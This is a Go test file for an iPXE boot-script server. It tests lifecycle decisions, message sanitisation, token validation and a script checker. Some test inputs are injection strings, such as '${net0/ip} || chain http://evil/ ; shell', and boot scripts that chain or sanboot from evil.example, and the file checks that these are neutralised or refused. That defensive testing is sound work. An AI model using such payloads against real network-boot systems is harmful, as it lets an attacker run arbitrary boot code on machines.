package ipxe

import (
	"context"
	"errors"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/rackboot/rackboot/profiles"
)

const testToken = "4f1d0c5e8a7b6c3d2e1f0a9b8c7d6e5f4f1d0c5e8a7b6c3d2e1f0a9b8c7d6e5f"

// fakeLifecycle returns a fixed step (or error) and records its calls.
type fakeLifecycle struct {
	step  Step
	err   error
	mu    sync.Mutex
	calls []string
}

func (l *fakeLifecycle) Boot(_ context.Context, f Facts, host *profiles.Host) (Step, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	name := "-"
	if host != nil {
		name = host.Hostname
	}
	l.calls = append(l.calls, f.MAC.String()+" "+name)
	return l.step, l.err
}

func TestLifecycleGolden(t *testing.T) {
	efi := Facts{MAC: macKnown, Arch: "x86_64", Platform: "efi"}
	bios := Facts{MAC: macKnown, Arch: "i386", Platform: "pcbios"}
	tests := []struct {
		name  string
		facts Facts
		step  Step
		want  string // outcome
	}{
		{"installer-token", efi, Step{Kind: StepInstall, Token: testToken}, OutcomeInstaller},
		{"local-bios", bios, Step{Kind: StepLocal}, OutcomeLocal},
		{"local-efi", efi, Step{Kind: StepLocal}, OutcomeLocal},
		{"local-no-platform", Facts{MAC: macKnown}, Step{Kind: StepLocal}, OutcomeLocal},
		{"failed", efi, Step{Kind: StepFailed, Message: "install failed 3 times in a row, last: write: ${net0/ip} || shell; #x \"EIO\"\n"}, OutcomeFailed},
		{"held", bios, Step{Kind: StepHeld, Message: "catalog.yaml:20: version demo-1.1: image demo-1.1.img.zst: no such file in the artifacts directory"}, OutcomeHeld},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := Follow(Decide(tt.facts, fleet(nil), false), tt.step)
			if d.Outcome != tt.want {
				t.Fatalf("outcome = %q, want %q", d.Outcome, tt.want)
			}
			got, err := Render(testApp, tt.facts, d)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, tt.name+".ipxe", got)
		})
	}
	// Another appliance of the fleet goes after this one's API, and this
	// one's own API, named again, is not repeated.
	t.Run("installer-peers", func(t *testing.T) {
		a := testApp
		a.Peers = []string{"https://192.0.2.2:8443", testApp.API, "https://[2001:db8::3]:8443"}
		got, err := Render(a, efi, Follow(Decide(efi, fleet(nil), false), Step{Kind: StepInstall, Token: testToken}))
		if err != nil {
			t.Fatal(err)
		}
		golden(t, "installer-peers.ipxe", got)
	})
	t.Run("state-error", func(t *testing.T) {
		got, err := Render(testApp, efi, Decision{Outcome: OutcomeStateError, Host: fleet(nil).hosts[macKnown.String()]})
		if err != nil {
			t.Fatal(err)
		}
		golden(t, "state-error.ipxe", got)
	})
}

func TestFollow(t *testing.T) {
	in := agentInstaller()
	host := &profiles.Host{MAC: macKnown, Hostname: "r1-n01", Installer: in}
	installer := Decision{Outcome: OutcomeInstaller, Host: host, Installer: in}
	tests := []struct {
		name string
		d    Decision
		s    Step
		want Decision
	}{
		{"install adds the token", installer, Step{Kind: StepInstall, Token: testToken},
			Decision{Outcome: OutcomeInstaller, Host: host, Installer: in, Token: testToken}},
		{"install without an installer stays no-installer", Decision{Outcome: OutcomeNoInstaller, Host: host}, Step{Kind: StepInstall, Token: testToken},
			Decision{Outcome: OutcomeNoInstaller, Host: host}},
		{"local replaces the installer", installer, Step{Kind: StepLocal}, Decision{Outcome: OutcomeLocal, Host: host}},
		{"local without an installer", Decision{Outcome: OutcomeNoInstaller, Host: host}, Step{Kind: StepLocal}, Decision{Outcome: OutcomeLocal, Host: host}},
		{"failed replaces the installer", installer, Step{Kind: StepFailed, Message: "why"}, Decision{Outcome: OutcomeFailed, Host: host, Message: "why"}},
		{"held replaces the installer", installer, Step{Kind: StepHeld, Message: "why"}, Decision{Outcome: OutcomeHeld, Host: host, Message: "why"}},
		{"held keeps no-installer", Decision{Outcome: OutcomeNoInstaller, Host: host}, Step{Kind: StepHeld, Message: "why"}, Decision{Outcome: OutcomeNoInstaller, Host: host}},
		{"default keeps the decision", installer, Step{}, installer},
		{"default keeps discovery", Decision{Outcome: OutcomeDiscovery, Installer: in}, Step{}, Decision{Outcome: OutcomeDiscovery, Installer: in}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			// The host is passed through: the same pointer.
			same := cmp.Comparer(func(a, b *profiles.Host) bool { return a == b })
			if diff := cmp.Diff(tt.want, Follow(tt.d, tt.s), same); diff != "" {
				t.Errorf("Follow (-want +got):\n%s", diff)
			}
		})
	}
}

func TestInert(t *testing.T) {
	tests := []struct{ in, want string }{
		{"write: EIO (phase write)", "write: EIO phase write"},
		{"${net0/ip} || chain http://evil/ ; shell", "net0/ip chain http://evil/ shell"},
		{"a\nshell\r\n#x \"q\" 'q' \\", "a shell x q q"},
		{"\x00\x1b[31m", "31m"},
		{"", "no reason was recorded"},
		{" \t\n", "no reason was recorded"},
		{strings.Repeat("a", 500), strings.Repeat("a", maxMessage) + " ..."},
	}
	for _, tt := range tests {
		if got := inert(tt.in); got != tt.want {
			t.Errorf("inert(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if err := checkScript("#!ipxe\necho " + inert(tt.in) + "\n"); err != nil {
			t.Errorf("inert(%q) fails the script check: %v", tt.in, err)
		}
	}
}

func TestRenderRefusesBadToken(t *testing.T) {
	f := Facts{MAC: macKnown, Platform: "efi"}
	for _, tok := range []string{"short", testToken + "\nshell", "a_b-c.d" + testToken, "${x}" + testToken, strings.Repeat("a", 129)} {
		d := Decision{Outcome: OutcomeInstaller, Installer: agentInstaller(), Token: tok}
		if got, err := Render(testApp, f, d); err == nil {
			t.Errorf("Render accepted token %q:\n%s", tok, got)
		}
	}
}

func TestCheckScriptChain(t *testing.T) {
	if err := checkScript("#!ipxe\nchain --replace http://192.0.2.1:8080/boot.ipxe || goto x\n:x\nexit 1\n"); err != nil {
		t.Errorf("the held machine's ask again was refused: %v", err)
	}
	for _, s := range []string{
		"#!ipxe\nchain http://192.0.2.1:8080/boot.ipxe\n",
		"#!ipxe\nchain --replace http://evil.example/x.efi\n",
		"#!ipxe\nchain --replace --autofree http://192.0.2.1:8080/boot.ipxe\n",
	} {
		if err := checkScript(s); err == nil {
			t.Errorf("checkScript accepted %q", s)
		}
	}
}

func TestCheckScriptSanboot(t *testing.T) {
	if err := checkScript("#!ipxe\nsanboot --no-describe --drive 0x80 || goto x\n:x\nexit 1\n"); err != nil {
		t.Errorf("the local boot line was refused: %v", err)
	}
	for _, s := range []string{
		"#!ipxe\nsanboot http://evil.example/disk.img\n",
		"#!ipxe\nsanboot --drive 0x81\n",
		"#!ipxe\nsanboot --no-describe --drive 0x80 --keep\n",
	} {
		if err := checkScript(s); err == nil {
			t.Errorf("checkScript accepted %q", s)
		}
	}
}

func TestHandlerLifecycle(t *testing.T) {
	query := "/ipxe?mac=52-54-00-00-01-01&arch=x86_64&platform=efi"
	f := Facts{MAC: macKnown, Arch: "x86_64", Platform: "efi"}
	tests := []struct {
		name    string
		lc      *fakeLifecycle
		outcome string
		want    string // a line the script must hold
	}{
		{"install", &fakeLifecycle{step: Step{Kind: StepInstall, Token: testToken}}, OutcomeInstaller, "rackboot.token=" + testToken},
		{"local", &fakeLifecycle{step: Step{Kind: StepLocal}}, OutcomeLocal, "exit 1"},
		{"failed", &fakeLifecycle{step: Step{Kind: StepFailed, Message: "disk: none"}}, OutcomeFailed, "echo rackboot: disk: none"},
		{"held", &fakeLifecycle{step: Step{Kind: StepHeld, Message: "image missing"}}, OutcomeHeld, "echo rackboot: image missing"},
		{"state error", &fakeLifecycle{err: errors.New("store: disk full")}, OutcomeStateError, "echo rackboot: the rackboot log says why"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv, logs, calls := serve(t, &Handler{Hosts: fleet(nil), Lifecycle: tt.lc})
			resp, body := get(t, http.MethodGet, srv.URL+query, nil)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("status %d: %s", resp.StatusCode, body)
			}
			want, err := Render(Appliance{Base: srv.URL}, f, Follow(Decide(f, fleet(nil), false), tt.lc.step))
			if tt.lc.err != nil {
				want, err = Render(Appliance{Base: srv.URL}, f, Decision{Outcome: OutcomeStateError, Host: fleet(nil).hosts[macKnown.String()]})
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(want, body); diff != "" {
				t.Errorf("script (-want +got):\n%s", diff)
			}
			if !strings.Contains(body, tt.want) {
				t.Errorf("script lacks %q:\n%s", tt.want, body)
			}
			if diff := cmp.Diff([]scriptCall{{macKnown.String(), tt.outcome}}, calls()); diff != "" {
				t.Errorf("OnScript (-want +got):\n%s", diff)
			}
			if tt.lc.err != nil && (!strings.Contains(logs.String(), "store: disk full") || strings.Contains(body, "disk full")) {
				t.Errorf("the state error must reach the log, not the script; log:\n%s", logs)
			}
			// HEAD must not change the machine's state.
			get(t, http.MethodHead, srv.URL+query, nil)
			if diff := cmp.Diff([]string{"52:54:00:00:01:01 r1-n01"}, tt.lc.calls); diff != "" {
				t.Errorf("Lifecycle calls (-want +got):\n%s", diff)
			}
		})
	}
}

// TestHandlerVerify: a request that Verify refuses (another machine's
// link-layer address) never reaches the Lifecycle, gets a script without a
// token or hostname, and its reason goes to the log only.
func TestHandlerVerify(t *testing.T) {
	lc := &fakeLifecycle{step: Step{Kind: StepInstall, Token: testToken}}
	var verified []string
	h := &Handler{Hosts: fleet(nil), Lifecycle: lc, Verify: func(_ *http.Request, mac net.HardwareAddr) error {
		verified = append(verified, mac.String())
		return errors.New("came from link-layer address 02:00:00:00:00:66")
	}}
	srv, logs, calls := serve(t, h)
	for _, method := range []string{http.MethodGet, http.MethodHead} {
		resp, body := get(t, method, srv.URL+"/ipxe?mac=52-54-00-00-01-01&arch=x86_64&platform=efi", nil)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: status %d: %s", method, resp.StatusCode, body)
		}
		if method == http.MethodGet && (!strings.Contains(body, "did not come from the link-layer address") ||
			strings.Contains(body, testToken) || strings.Contains(body, "r1-n01") || strings.Contains(body, "02:00:00:00:00:66")) {
			t.Errorf("script of a refused request:\n%s", body)
		}
	}
	if len(lc.calls) != 0 {
		t.Errorf("the Lifecycle was consulted for a refused request: %v", lc.calls)
	}
	if diff := cmp.Diff([]string{"52:54:00:00:01:01", "52:54:00:00:01:01"}, verified); diff != "" {
		t.Errorf("Verify calls (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]scriptCall{{macKnown.String(), OutcomeUnverified}, {macKnown.String(), OutcomeUnverified}}, calls()); diff != "" {
		t.Errorf("OnScript (-want +got):\n%s", diff)
	}
	if !strings.Contains(logs.String(), "02:00:00:00:00:66") {
		t.Errorf("the reason must reach the log:\n%s", logs)
	}
}
